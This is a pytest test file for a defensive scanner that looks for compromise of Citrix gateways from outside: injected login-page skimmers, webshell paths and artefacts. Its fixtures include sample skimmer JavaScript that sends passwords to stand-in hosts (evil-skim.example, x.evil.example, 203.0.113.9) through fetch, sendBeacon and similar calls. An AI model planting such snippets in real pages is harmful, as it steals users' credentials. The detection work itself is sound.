"""Remote indicators of compromise: rules as data, login-page integrity, webshell paths."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from nscheck.assess.indicators import check_host, extract_page, load_rules, parse_allow_origins, snippet
from nscheck.inputs import InputError
from nscheck.model import Confidence, Indicator, Severity, Skipped
from nscheck.probe.types import HttpResponse
from nscheck.signatures import SignatureError, lint
from nscheck.signatures.indicators import load

REPO = Path(__file__).resolve().parent.parent
SIGS = REPO / "signatures"
BASE = "https://gw.example.test"

LOGIN = (
    b'<!DOCTYPE html><html><head><title class="_ctxstxt_NetscalerGateway">Citrix Gateway</title>'
    b'<link href="/vpn/js/rdx/core/css/rdx.css" rel="stylesheet" type="text/css"/>'
    b'<script type="text/javascript" src="/vpn/js/rdx.js"></script>'
    b'<script type="text/javascript" src="/vpn/login.js"></script>'
    b"<SCRIPT language=JavaScript>\nfunction changePage() { if (self == top) { ns_fillName(); }"
    b" else { top.location = self.location ; } }\n</SCRIPT>"
    b'</head><body class="ns_body"><form action="/cgi/login" method="post"><input name="login"></form>'
    b'<script>rdx.FRAMEWORK_BASE = "/vpn/js";</script></body></html>'
)

SKIMMER_PAGE = (
    b'<!DOCTYPE html><html><head><title class="_ctxstxt_NetscalerGateway">Citrix Gateway</title>'
    b'<script type="text/javascript" src="/vpn/login.js"></script>'
    b'<script src="https://cdn.evil-skim.example/s.js"></script>'
    b"</head><body><form action=\"/cgi/login\" method=\"post\"><input name=\"login\"><input name=\"passwd\"></form>"
    b"<script>\ndocument.forms[0].addEventListener('submit', function () {\n"
    b"  fetch('https://collect.evil-skim.example/c?d=' + btoa(document.forms[0].passwd.value), {mode: 'no-cors'});\n"
    b"});\n</script></body></html>"
)

CLEAN_CUSTOM = (
    b'<!DOCTYPE html><html><head><title class="_ctxstxt_NetscalerGateway">Example Corp Remote Access</title>'
    b'<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Roboto">'
    b'<script src="https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js"></script>'
    b'<script src="https://gw.example.test/logon/themes/Corp/js/theme.js"></script>'
    b'<script src="receiver/js/ctxs.core.min.js"></script>'
    b"<script>var u = '/logon/LogonPoint/index.html'; if (top !== self) { top.location = self.location; }"
    b" window.location.href = '/vpn/index.html'; fetch('/cgi/resources/list');"
    b" var x = new XMLHttpRequest(); x.open('GET', '/logon/themes/Corp/strings.json');</script>"
    b'</head><body><form action="https://gw.example.test/cgi/login"></form>'
    b'<a href="https://www.example.com/help">Help</a></body></html>'
)


class FakeFetcher:
    """A per-host Fetcher with routes, a request budget and a log (method, path)."""

    def __init__(self, routes: dict[str, tuple[int, bytes] | tuple[int, bytes, dict[str, str]]] | None = None, *,
                 default: Callable[[str], tuple[int | None, bytes, dict[str, str]]] | None = None,
                 budget: int = 40, base_url: str = BASE, ranges: bool = False):
        self.base_url = base_url
        self.ranges = ranges  # honour Range like Apache does for static files (206 + slice)
        self.routes = routes or {}
        self.default = default or (lambda p: (404, b"<html><head><title>404 Not Found</title></head></html>",
                                              {"content-type": "text/html"}))
        self.budget = budget
        self.log: list[tuple[str, str]] = []

    @property
    def requests_sent(self) -> int:
        return len(self.log)

    @property
    def budget_left(self) -> int:
        return max(0, self.budget - len(self.log))

    def _answer(self, method: str, path: str) -> HttpResponse:
        if path.startswith("http"):
            path = path[len(self.base_url):]
        if self.budget_left <= 0:
            return HttpResponse(method, self.base_url + path, None, error="budget", error_kind="budget")
        self.log.append((method, path))
        key = path.split("?", 1)[0]
        if key in self.routes:
            v = self.routes[key]
            status, body, headers = (v[0], v[1], v[2] if len(v) > 2 else {})  # type: ignore[misc]
        else:
            status, body, headers = self.default(key)
        if status is None:
            return HttpResponse(method, self.base_url + path, None, error="timeout", error_kind="read_timeout")
        hs = tuple((k.lower(), v) for k, v in headers.items())
        return HttpResponse(method, self.base_url + path, status, hs, body if method == "GET" else b"")

    async def get(self, path: str, *, raw: bool = False, byte_range: tuple[int, int] | None = None,
                  follow_redirects: bool = True, max_bytes: int | None = None) -> HttpResponse:
        r = self._answer("GET", path)
        if self.ranges and byte_range is not None and r.status == 200:
            r = HttpResponse(r.method, r.url, 206, r.headers, r.body[byte_range[0]:byte_range[1] + 1])
        if max_bytes is not None and len(r.body) > max_bytes:
            r = HttpResponse(r.method, r.url, r.status, r.headers, r.body[:max_bytes], truncated=True)
        return r

    async def head(self, path: str) -> HttpResponse:
        return self._answer("HEAD", path)


def page(path: str, body: bytes, status: int = 200) -> HttpResponse:
    return HttpResponse("GET", BASE + path, status, (("content-type", "text/html; charset=utf-8"),), body)


def run(fetcher: FakeFetcher, pages: list[HttpResponse], **kw: object) -> tuple[list[Indicator], list[Skipped]]:
    kw.setdefault("signatures_dir", SIGS)
    kw.setdefault("roles", ("gateway",))
    return asyncio.run(check_host(fetcher, pages, **kw))  # type: ignore[arg-type]


def ids(found: list[Indicator]) -> set[str]:
    return {i.id for i in found}


def only_get_head(f: FakeFetcher) -> None:
    assert f.log, "expected requests"
    assert {m for m, _ in f.log} <= {"GET", "HEAD"}


JS = {"content-type": "application/javascript"}
LOGIN_ROUTES: dict[str, tuple[int, bytes] | tuple[int, bytes, dict[str, str]]] = {
    "/vpn/js/rdx.js": (200, b"var rdx = {}; rdx.load = function (u) { var x = new XMLHttpRequest(); x.open('GET', u); };", JS),
    "/vpn/login.js": (200, b"function login() { document.forms[0].submit(); }", JS),
}


# -- signatures -------------------------------------------------------------------------------


def test_shipped_rules_load_and_lint() -> None:
    rs = load(SIGS)
    assert len(rs.page_rules) >= 10 and len(rs.path_rules) >= 5
    assert all(r.method in ("get", "head") for r in rs.path_rules)
    full = {p for r in rs.path_rules for p in r.paths}
    # all 198 published webshell paths plus the NCSC-NL and 2026 ones
    assert len(full) > 198
    for p in ("/logon/LogonPoint/index.php", "/logon/LogonPoint/LogonUI.php", "/vpn/c",
              "/logon/LogonPoint/custom/.ctxs.receiver"):
        assert p in full
    assert any(a.host == "fonts.googleapis.com" for a in rs.allow_origins)
    rep = lint(SIGS)
    assert not [e for e in rep.errors if "indicators" in e.file], rep.errors
    assert rep.counts.get("indicators") == len(rs)


def _write(tmp: Path, text: str, name: str = "rules.yaml") -> Path:
    d = tmp / "indicators"
    d.mkdir(exist_ok=True)
    (d / name).write_text(text, encoding="utf-8")
    return tmp


RULE_HEAD = """rules:
  - id: T-RULE-01
    title: t
    check: webshell
    severity: high
    confidence: high
    references: [x]
    advice: do something
"""


@pytest.mark.parametrize(
    ("body", "field", "reason"),
    [
        ("    path: {method: post, judge: webshell, paths: [/a.php]}\n", "path.method", "only get or head"),
        ("    path: {method: PUT, judge: webshell, paths: [/a.php]}\n", "path.method", "only get or head"),
        ("    path: {judge: guess, paths: [/a.php]}\n", "path.judge", "must be one of"),
        ("    path: {judge: webshell, paths: ['/a.php?cmd=id']}\n", "path.paths", "plain URL path"),
        ("    page: {in: [inline_script], pattern: 'fetch\\\\((.*)'}\n", "page.pattern", "unbounded"),
        ("    page: {in: [inline_script], pattern: 'fetch\\\\(['}\n", "page.pattern", "invalid regex"),
        ("    page: {in: [inline_script]}\n", "page.pattern", "required"),
        ("    page: {in: [everything]}\n", "page.in", "list of"),
        ("    page: {in: [script_src]}\n    path: {judge: webshell, paths: [/a.php]}\n", "page/path", "exactly one"),
        ("    page: {in: [script_src]}\n    colour: red\n", "colour", "unknown key"),
    ],
)
def test_loader_rejects_bad_rules_with_file_line_field(tmp_path: Path, body: str, field: str, reason: str) -> None:
    d = _write(tmp_path, RULE_HEAD + body)
    with pytest.raises(SignatureError) as ei:
        load(d)
    e = ei.value
    assert e.file.endswith("rules.yaml") and e.line is not None and e.line >= 2
    assert e.field == field and reason in e.reason
    assert str(e).startswith(f"{e.file}:{e.line}: {field}: ")


def test_loader_collects_several_errors_and_duplicate_ids(tmp_path: Path) -> None:
    text = RULE_HEAD + "    page: {in: [script_src]}\n" + RULE_HEAD.split("\n", 1)[1].replace("severity: high", "severity: huge")
    text += "    page: {in: [script_src]}\n"
    d = _write(tmp_path, text)
    with pytest.raises(SignatureError) as ei:
        load(d)
    assert "duplicate rule id" in str(ei.value)


def test_loader_missing_fields_and_bad_allowlist(tmp_path: Path) -> None:
    _write(tmp_path, "rules:\n  - id: T-RULE-01\n    page: {in: [script_src]}\n")
    _write(tmp_path, "allow_origins: ['https://cdn.example/path']\n", "allowlist.yaml")
    with pytest.raises(ExceptionGroup) as ei:
        load(tmp_path)
    msgs = [str(e) for e in ei.value.exceptions]
    for f in ("title", "check", "severity", "confidence", "references", "advice", "allow_origins"):
        assert any(f": {f}: " in m for m in msgs), (f, msgs)


def test_bad_signatures_give_a_skip_not_a_traceback(tmp_path: Path) -> None:
    _write(tmp_path, "rules: [")
    f = FakeFetcher()
    found, skipped = run(f, [page("/vpn/index.html", LOGIN)], signatures_dir=tmp_path)
    assert found == [] and f.log == []
    assert skipped and skipped[0].what == "indicators" and "YAML syntax" in skipped[0].reason


# -- login-page integrity ---------------------------------------------------------------------


def test_compromised_login_page_reports_skimmer_script_and_fetch_exfil() -> None:
    f = FakeFetcher(dict(LOGIN_ROUTES))
    found, _ = run(f, [page("/logon/LogonPoint/index.html", SKIMMER_PAGE)], path_tier="none")
    by = {i.id: i for i in found}
    src = by["NSC-IOC-EXFIL-SCRIPT-SRC"]
    assert src.url == BASE + "/logon/LogonPoint/index.html"
    assert "https://cdn.evil-skim.example" in src.evidence and "s.js" in src.evidence
    assert src.severity is Severity.HIGH and src.check == "portal_exfil"
    fx = by["NSC-IOC-EXFIL-FETCH"]
    assert "origin https://collect.evil-skim.example" in fx.evidence
    assert "btoa(" in fx.evidence
    assert "nscheck triage" in fx.advice and "isolate" in fx.advice
    for i in found:
        assert "\n" not in i.evidence and "\r" not in i.evidence
        assert not any(ord(c) < 0x20 for c in i.evidence)
        assert i.references
    only_get_head(f)


def test_first_party_script_with_beacon_is_fetched_and_reported() -> None:
    routes = dict(LOGIN_ROUTES)
    routes["/vpn/login.js"] = (200, b"function login(){\n var p=document.getElementById('passwd').value;\n"
                               b" navigator.sendBeacon('https://203.0.113.9:8443/b', p);\n}", JS)
    f = FakeFetcher(routes)
    found, _ = run(f, [page("/vpn/index.html", LOGIN)], path_tier="none")
    beacon = [i for i in found if i.id == "NSC-IOC-EXFIL-BEACON"]
    assert len(beacon) == 1
    assert beacon[0].url == BASE + "/vpn/login.js"
    assert "https://203.0.113.9:8443" in beacon[0].evidence
    assert ("GET", "/vpn/login.js") in f.log


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("fetch(`https://x.evil.example/${d}`)", "NSC-IOC-EXFIL-FETCH"),
        ("FETCH ( 'HTTPS://X.EVIL.EXAMPLE/a' )", "NSC-IOC-EXFIL-FETCH"),
        ("var r = new XMLHttpRequest(); r.open('POST', 'https://x.evil.example/p', true);", "NSC-IOC-EXFIL-XHR"),
        ("navigator.sendBeacon(\"//x.evil.example/b\", data)", "NSC-IOC-EXFIL-BEACON"),
        ("new Image().src = 'https://x.evil.example/i.gif?u=' + u;", "NSC-IOC-EXFIL-SRC-SET"),
        ("var s=document.createElement('script'); s.src='https://x.evil.example/a.js';", "NSC-IOC-EXFIL-SRC-SET"),
        ("var ws = new WEBSOCKET('wss://x.evil.example/ws');", "NSC-IOC-EXFIL-WEBSOCKET"),
        ("var ws = new WebSocket(\"ws://x.evil.example:81/\");", "NSC-IOC-EXFIL-WEBSOCKET"),
        ("new eventsource('https://x.evil.example/sse')", "NSC-IOC-EXFIL-EVENTSOURCE"),
        ("parent.postmessage(JSON.stringify(creds), 'https://x.evil.example')", "NSC-IOC-EXFIL-POSTMESSAGE"),
        ("window.location.href = 'https://x.evil.example/phish';", "NSC-IOC-REDIRECT-LOCATION"),
        ("top.location = \"https://x.evil.example/\"", "NSC-IOC-REDIRECT-LOCATION"),
        ("location.replace('https://x.evil.example/')", "NSC-IOC-REDIRECT-LOCATION"),
        ("navigator.clipboard.readText().then(function(t){})", "NSC-IOC-EXFIL-CLIPBOARD"),
        ("navigator.clipboard.writeText(x)", "NSC-IOC-EXFIL-CLIPBOARD"),
    ],
)
def test_each_script_rule_fires_case_insensitively(code: str, rule: str) -> None:
    body = b"<html><head><title>Citrix Gateway</title></head><body><script>" + code.encode() + b"</script></body></html>"
    found, _ = run(FakeFetcher(), [page("/vpn/index.html", body)], path_tier="none")
    assert rule in ids(found), (code, found)
    hit = next(i for i in found if i.id == rule)
    if rule != "NSC-IOC-EXFIL-CLIPBOARD":
        assert "x.evil.example" in hit.evidence.lower()


@pytest.mark.parametrize(
    ("html", "rule", "origin"),
    [
        ('<form action="https://x.evil.example/steal" method="post"></form>', "NSC-IOC-EXFIL-FORM", "https://x.evil.example"),
        ('<form><button formaction="//x.evil.example/s">go</button></form>', "NSC-IOC-EXFIL-FORM", "https://x.evil.example"),
        ('<base href="https://x.evil.example/">', "NSC-IOC-EXFIL-BASE", "https://x.evil.example"),
        ('<iframe src="https://x.evil.example/f"></iframe>', "NSC-IOC-EXFIL-IFRAME", "https://x.evil.example"),
        ('<meta http-equiv="Refresh" content="0; URL=https://x.evil.example/">', "NSC-IOC-REDIRECT-META", "https://x.evil.example"),
        ('<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>', "NSC-IOC-EXFIL-SCRIPT-SRC", "data:text/javascript;base64"),
        ('<SCRIPT SRC="HTTP://X.EVIL.EXAMPLE:8080/a.js"></SCRIPT>', "NSC-IOC-EXFIL-SCRIPT-SRC", "http://x.evil.example:8080"),
        ('<input type="submit" onclick="location.href=\'https://x.evil.example/\'">', "NSC-IOC-REDIRECT-LOCATION", "https://x.evil.example"),
    ],
)
def test_markup_rules(html: str, rule: str, origin: str) -> None:
    body = b"<html><head><title>Citrix Gateway</title></head><body>" + html.encode() + b"</body></html>"
    found, _ = run(FakeFetcher(), [page("/vpn/index.html", body)], path_tier="none")
    hit = [i for i in found if i.id == rule]
    assert hit, found
    assert f"origin {origin}" in hit[0].evidence


def test_clean_customised_theme_with_allowlisted_cdn_gives_nothing() -> None:
    routes = dict(LOGIN_ROUTES)
    routes["/logon/themes/Corp/js/theme.js"] = (200, b"$(function(){ $('.logo').show(); fetch('/logon/themes/Corp/x.json'); });", JS)
    routes["/logon/LogonPoint/receiver/js/ctxs.core.min.js"] = (200, b"var ctxs={};ctxs.post=function(u,d){return fetch(u,{method:'POST',body:d})};", JS)
    f = FakeFetcher(routes)
    found, skipped = run(f, [page("/logon/LogonPoint/index.html", CLEAN_CUSTOM), page("/vpn/index.html", LOGIN)])
    assert found == []
    assert ("GET", "/logon/themes/Corp/js/theme.js") in f.log  # first-party scripts were read
    assert not any(p.startswith("https://cdnjs") for _, p in f.log)  # never fetch off-host
    assert not [s for s in skipped if "budget" in s.reason]
    only_get_head(f)


def test_reconstructed_reference_pages_are_clean() -> None:
    ref = Path("/work/shared/reference/samples")
    if not ref.is_dir():
        pytest.skip("reference samples not present")
    pages = [page("/" + p.name, p.read_bytes()) for p in sorted(ref.glob("*.html"))]
    found, _ = run(FakeFetcher(), pages, path_tier="none", max_scripts=0)
    assert found == []


def test_allow_origin_extension_suppresses_hit() -> None:
    body = SKIMMER_PAGE
    found, _ = run(FakeFetcher(), [page("/vpn/index.html", body)], path_tier="none",
                   allow_origins=parse_allow_origins(["cdn.evil-skim.example"]))
    assert "NSC-IOC-EXFIL-SCRIPT-SRC" not in ids(found)
    assert "NSC-IOC-EXFIL-FETCH" in ids(found)  # collect.evil-skim.example is still foreign
    found2, _ = run(FakeFetcher(), [page("/vpn/index.html", body)], path_tier="none",
                    allow_origins=parse_allow_origins(["*.evil-skim.example"]))
    assert found2 == []


def test_allow_origin_file_and_bad_values(tmp_path: Path) -> None:
    p = tmp_path / "allow.txt"
    p.write_text("# our IdP and CDN\nhttps://cdn.evil-skim.example\ncollect.evil-skim.example:443 # collector\n")
    found, _ = run(FakeFetcher(), [page("/vpn/index.html", SKIMMER_PAGE)], path_tier="none",
                   allow_origins=parse_allow_origins([], [str(p)]))
    assert found == []
    pats = parse_allow_origins(["idp.example.com,https://sso.example.org:8443"], [str(p)])
    assert [x.host for x in pats] == ["idp.example.com", "sso.example.org", "cdn.evil-skim.example", "collect.evil-skim.example"]
    # scheme/port given: only that scheme/port is allowed
    assert pats[1].matches("https", "sso.example.org", 8443) and not pats[1].matches("https", "sso.example.org", 443)
    for bad in ("https://x.example/path", "ftp://x.example", "not a host", "x.example:99999"):
        with pytest.raises(InputError, match="--allow-origin"):
            parse_allow_origins([bad])
    bad_file = tmp_path / "bad.txt"
    bad_file.write_text("ok.example\nhttps://x/p\n")
    with pytest.raises(InputError, match=r"bad\.txt:2"):
        parse_allow_origins([], [str(bad_file)])


def test_snippet_is_trimmed_and_escaped() -> None:
    text = "a" * 1000 + "\x00\x1b\n\r\tfetch('https://e.example')\u2028" + "b" * 1000
    s = snippet(text, 1005, 1030)
    assert len(s) <= 200
    assert "\n" not in s and "\x1b" not in s and "\u2028" not in s
    assert "\\x1b" in s and "\\n" in s


def test_hostile_pages_are_bounded() -> None:
    skim = b"<script>fetch('https://x.evil.example/a')</script>"
    cases = {
        "5mb": b"<html><head><title>Citrix Gateway</title></head><body>" + skim + b"<p>x</p>" * 700_000,
        "huge_inline": b"<html><body><script>" + b"var a='postMessage(' + 1;" * 200_000 + b"</script>" + skim,
        "nested": b"<html><body>" + b"<div><span>" * 80_000 + skim + b"</span></div>" * 80_000,
        "invalid": b"<html><body><<<>>><a href='x><script <script src=\"https://x.evil.example/z.js\"><!-- " * 20_000
        + skim + b"<![CDATA[ </scr",
        "binary": skim + bytes(range(256)) * 20_000,
        "unclosed": b"<html><body><script>" + b"fetch(" * 300_000,
        # html.parser is quadratic on unfinished constructs without a closing '>'
        "end_tag_junk": skim + b"</" * 500_000,
        "pi_junk": skim + b"<?" * 500_000,
        "decl_junk": skim + b"<!" * 500_000,
        "lt_flood": skim + b"<" * 1_000_000,
    }
    for name, body in cases.items():
        # CPU time, not wall time: the bound is on the work a hostile page can cause (a quadratic
        # parse would take minutes), and it must not fail because other processes share the cores.
        t0 = time.process_time()
        found, _ = run(FakeFetcher(), [page("/vpn/index.html", body)], path_tier="none", max_scripts=0)
        dt = time.process_time() - t0
        assert dt < 6.0, (name, dt)
        for i in found:
            assert len(i.evidence) < 400
        if name not in ("huge_inline", "invalid", "unclosed"):
            assert "NSC-IOC-EXFIL-FETCH" in ids(found), name


def test_extract_page_caps_items() -> None:
    parts = extract_page("<form action='/a'></form>" * 10_000)
    assert len(parts.url_attrs) <= 2_000


# -- webshell / artefact paths ----------------------------------------------------------------


def test_webshell_answering_200_empty_is_reported_with_baseline() -> None:
    f = FakeFetcher({"/logon/LogonPoint/index.php": (200, b"", {"content-type": "text/html; charset=UTF-8"})})
    found, skipped = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0, random_name=lambda: "rnd0001")
    ws = [i for i in found if i.id == "NSC-IOC-WEBSHELL-NCSC"]
    assert len(ws) == 1
    i = ws[0]
    assert i.url == BASE + "/logon/LogonPoint/index.php"
    assert i.severity is Severity.CRITICAL and i.confidence is Confidence.HIGH and i.check == "webshell"
    assert "empty" in i.evidence and "baseline /logon/LogonPoint/rnd0001.php -> 404" in i.evidence
    assert ("GET", "/logon/LogonPoint/rnd0001.php") in f.log
    assert not [s for s in skipped if s.what == "webshell paths"]
    assert len(found) == 1
    only_get_head(f)


def test_paths_are_probed_in_priority_order_and_sequentially_bounded() -> None:
    f = FakeFetcher()
    found, _skipped = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0)
    assert found == []
    paths = [p for _, p in f.log]
    assert paths[:4] == ["/logon/LogonPoint/index.php", "/logon/LogonPoint/tmindex.php",
                         "/logon/LogonPoint/LogonUI.php", "/logon/LogonPoint/plugin_index.php"]
    assert 10 <= len(paths) <= 25  # the default tier, no baselines needed when all is 404
    assert not any("nscheck-" in p for p in paths)


def test_full_tier_adds_the_published_list() -> None:
    f = FakeFetcher(budget=1000)
    found, _skipped = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0, path_tier="full")
    assert found == [] and len(f.log) > 198
    assert ("GET", "/logon/LogonPoint/receiver/js/external/jquery.min.php") in f.log


def test_budget_short_reports_honest_skip_and_keeps_high_value_first() -> None:
    f = FakeFetcher(budget=6)
    _found, skipped = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=5)
    assert len(f.log) <= 6
    assert ("GET", "/logon/LogonPoint/index.php") in f.log
    sk = [s for s in skipped if s.what == "webshell paths"]
    assert sk and "paths not checked: request budget" in sk[0].reason
    n_left, total = sk[0].reason.split(" paths")[0].split(" of ")
    assert int(total) >= 18 and int(n_left) == int(total) - sum(1 for _, p in f.log if not p.endswith(".js"))
    assert any(s.what == "login page scripts" for s in skipped)


def test_catch_all_host_gives_no_finding() -> None:
    f = FakeFetcher(default=lambda p: (200, LOGIN.replace(b"ns_body", b"ns_body x" + str(len(p)).encode()),
                                       {"content-type": "text/html"}))
    found, _ = run(f, [page("/vpn/index.html", LOGIN), page("/nscheck-random", LOGIN)])
    assert found == []
    only_get_head(f)


def test_catch_all_host_honouring_range_gives_no_finding() -> None:
    # A ranged GET of nsgtrust.deb comes back 206 with the first bytes of the login page.
    f = FakeFetcher(default=lambda p: (200, LOGIN, {"content-type": "text/html"}), ranges=True)
    found, _ = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0)
    assert found == []


def test_catch_all_empty_200_host_gives_no_finding() -> None:
    f = FakeFetcher(default=lambda p: (200, b"", {"content-type": "text/html"}))
    found, _skipped = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0)
    assert found == []
    assert any("nscheck-" in p for _, p in f.log)  # it had to learn the baseline


@pytest.mark.parametrize("status", [403, 500, 401])
def test_host_refusing_everything_gives_no_finding(status: int) -> None:
    f = FakeFetcher(default=lambda p: (status, b"<html><title>Forbidden</title></html>", {"content-type": "text/html"}))
    found, _ = run(f, [page("/vpn/index.html", LOGIN)])
    assert found == []


def test_host_stopping_answering_stops_probing() -> None:
    f = FakeFetcher(default=lambda p: (None, b"", {}))
    found, skipped = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0)
    assert found == [] and len(f.log) == 3
    assert any("stopped answering" in s.reason for s in skipped)


def test_static_asset_served_as_php_and_artefacts() -> None:
    f = FakeFetcher({
        "/vpn/scripts/linux/nsgtrust.deb": (200, b"OK\n", {"content-type": "text/html"}),
        "/vpn/scripts/linux/nsg64.deb": (206, b"!<arch>\ndebian-binary   ", {"content-type": "application/octet-stream"}),
        "/vpn/media/nsgclient.ico": (200, b"\x00\x00\x01\x00\x01\x00", {"content-type": "image/x-icon"}),
        "/vpn/id009.txt": (200, b"uid=0(root) gid=0(wheel) groups=0(wheel)\n", {"content-type": "text/plain"}),
    })
    found, _ = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0)
    by = {(i.id, i.url) for i in found}
    assert ("NSC-IOC-STATIC-DEB", BASE + "/vpn/scripts/linux/nsgtrust.deb") in by
    assert ("NSC-IOC-ARTEFACT-2026", BASE + "/vpn/id009.txt") in by
    assert len(found) == 2
    art = next(i for i in found if i.id == "NSC-IOC-ARTEFACT-2026")
    assert "uid=0(root)" in art.evidence and art.confidence is Confidence.HIGH


def test_webshell_html_page_of_its_own_is_a_weaker_lead() -> None:
    shell = b"<html><head><title>x</title></head><body><form method=post><input name=c></form></body></html>"
    f = FakeFetcher({"/logon/LogonPoint/tmindex.php": (200, shell, {"content-type": "text/html"})})
    found, _ = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0)
    assert [i.id for i in found] == ["NSC-IOC-WEBSHELL-NCSC"]
    assert found[0].confidence is Confidence.MEDIUM


def test_no_pages_handed_over_fetches_login_pages_for_roles() -> None:
    routes = dict(LOGIN_ROUTES)
    routes["/logon/LogonPoint/tmindex.html"] = (200, SKIMMER_PAGE, {"content-type": "text/html"})
    f = FakeFetcher(routes)
    found, _ = run(f, [], roles=("aaa",), path_tier="none")
    assert ("GET", "/logon/LogonPoint/tmindex.html") in f.log
    assert "NSC-IOC-EXFIL-SCRIPT-SRC" in ids(found)


def test_rules_are_loaded_once_per_directory() -> None:
    assert load_rules(SIGS) is load_rules(SIGS)


# -- the real Fetcher over respx: what goes on the wire ---------------------------------------


def test_real_fetcher_over_respx_sends_only_get_and_head() -> None:
    respx = pytest.importorskip("respx")
    import httpx

    from nscheck.options import ScanOptions
    from nscheck.probe.client import ProbeClient
    from nscheck.targets import Target

    async def go() -> tuple[list[Indicator], list[Skipped], list[str]]:
        with respx.mock(assert_all_called=False) as mock:
            mock.get("https://gw.example.test/logon/LogonPoint/index.php").mock(
                return_value=httpx.Response(200, content=b"", headers={"content-type": "text/html"}))
            mock.get("https://gw.example.test/vpn/login.js").mock(
                return_value=httpx.Response(200, content=b"fetch('https://x.evil.example/c')", headers=JS))
            mock.route().mock(return_value=httpx.Response(404, content=b"<html><title>404</title></html>",
                                                          headers={"content-type": "text/html"}))
            opts = ScanOptions(request_budget=40)
            async with ProbeClient(opts) as client:
                fetcher = client.fetcher(Target("gw.example.test", "https", "gw.example.test", 443), 30.0)
                found, skipped = await check_host(fetcher, [page("/vpn/index.html", LOGIN)], roles=("gateway",),
                                                  signatures_dir=SIGS)
            methods = [c.request.method for c in mock.calls]
        return found, skipped, methods

    found, _skipped, methods = asyncio.run(go())
    assert set(methods) <= {"GET", "HEAD"} and methods
    assert {"NSC-IOC-WEBSHELL-NCSC", "NSC-IOC-EXFIL-FETCH"} <= ids(found)


def test_a_bug_or_broken_fetcher_never_escapes_check_host() -> None:
    class Exploding(FakeFetcher):
        async def get(self, path: str, **kw: object) -> HttpResponse:  # type: ignore[override]
            raise RuntimeError("boom")

    found, skipped = run(Exploding(), [page("/vpn/index.html", LOGIN)])
    assert found == [] and skipped[0].what == "indicators" and "RuntimeError: boom" in skipped[0].reason


def test_unknown_path_tier_falls_back_to_default_and_says_so() -> None:
    f = FakeFetcher()
    _found, skipped = run(f, [page("/vpn/index.html", LOGIN)], max_scripts=0, path_tier="everything")
    assert any("unknown path tier" in s.reason for s in skipped)
    assert ("GET", "/logon/LogonPoint/index.php") in f.log


def test_path_tier_none_sends_no_path_requests() -> None:
    f = FakeFetcher(dict(LOGIN_ROUTES))
    _found, skipped = run(f, [page("/vpn/index.html", LOGIN)], path_tier="none")
    assert all(p.endswith(".js") for _, p in f.log)
    assert any(s.what == "webshell paths" and "switched off" in s.reason for s in skipped)


def test_every_bad_allow_origin_entry_is_reported_at_once(tmp_path: Path) -> None:
    # A wrong allow list would hide (or raise) skimmer hits on every host: the scan refuses it
    # before its first request (tests/test_inputs.py), naming each bad entry, not just the first.
    p = tmp_path / "allow.txt"
    p.write_text("https://bad/path\ncdn.evil-skim.example\nftp://x.example\n")
    with pytest.raises(InputError) as ei:
        parse_allow_origins(["ok.example,https://x/p"], [str(p), str(tmp_path / "missing.txt")])
    probs = ei.value.problems
    assert len(probs) == 4
    assert probs[0].startswith("--allow-origin: 'https://x/p'")
    assert probs[1].startswith(f"{p}:1: ") and probs[2].startswith(f"{p}:3: ")
    assert "missing.txt: cannot read" in probs[3]


def test_plan_path_requests_lists_the_default_tier_in_order() -> None:
    from nscheck.assess.indicators import plan_path_requests

    plan = plan_path_requests(SIGS)
    assert plan[0] == ("GET", "/logon/LogonPoint/index.php", None)
    assert {m for m, _, _ in plan} == {"GET"}
    assert 15 <= len(plan) <= 20
    assert ("GET", "/vpn/scripts/linux/nsgtrust.deb", (0, 63)) in plan
    assert len(plan_path_requests(SIGS, "full")) > 198 + len(plan)
    assert plan_path_requests(SIGS, "none") == []


def test_published_indicator_schemas_are_current() -> None:
    """schemas/indicator-*.schema.json are what the loader's pydantic models say (regenerate with
    ``python -m nscheck.signatures.indicators schemas/``); the shipped files validate against them."""
    import json

    import jsonschema
    import yaml

    from nscheck.signatures.indicators import json_schemas

    root = Path(__file__).resolve().parent.parent
    for name, text in json_schemas().items():
        assert (root / "schemas" / name).read_text(encoding="utf-8") == text, f"regenerate {name}"
    rules_v = jsonschema.Draft202012Validator(json.loads(json_schemas()["indicator-rules.schema.json"]))
    allow_v = jsonschema.Draft202012Validator(json.loads(json_schemas()["indicator-allowlist.schema.json"]))
    for f in sorted((root / "signatures" / "indicators").glob("*.yaml")):
        v = allow_v if f.name == "allowlist.yaml" else rules_v
        errors = [e.message for e in v.iter_errors(yaml.safe_load(f.read_text(encoding="utf-8")))]
        assert not errors, (f.name, errors[:3])
